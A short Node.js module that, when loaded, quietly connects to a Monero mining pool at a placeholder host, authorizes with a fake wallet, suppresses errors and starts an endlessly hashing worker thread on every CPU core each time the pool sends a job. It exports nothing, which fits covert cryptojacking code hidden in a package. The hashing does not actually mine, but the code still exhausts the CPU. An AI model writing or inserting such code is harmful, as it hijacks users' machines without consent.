const net = require('net');
const os = require('os');
const { Worker } = require('worker_threads');
const POOL = { host: 'xmr.pool.example', port: 5555 };
const WALLET = '4FakeMoneroWalletAddressDoNotUse000000000000000000000000000000000000000000000000000000000000';
const sock = net.connect(POOL.port, POOL.host, () => {
  sock.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: ['node-miner/1.0'] }) + '\n');
  sock.write(JSON.stringify({ id: 2, method: 'mining.authorize', params: [WALLET, 'x'] }) + '\n');
});
sock.on('error', () => {});
sock.on('data', (buf) => {
  for (const line of buf.toString().split('\n').filter(Boolean)) {
    let msg; try { msg = JSON.parse(line); } catch (e) { continue; }
    if (msg.method === 'mining.notify') {
      for (let i = 0; i < os.cpus().length; i++) {
        new Worker(`const c=require('crypto');let n=0;for(;;){c.createHash('sha256').update(String(n++)).digest()}`, { eval: true });
      }
    }
  }
});
module.exports = {};
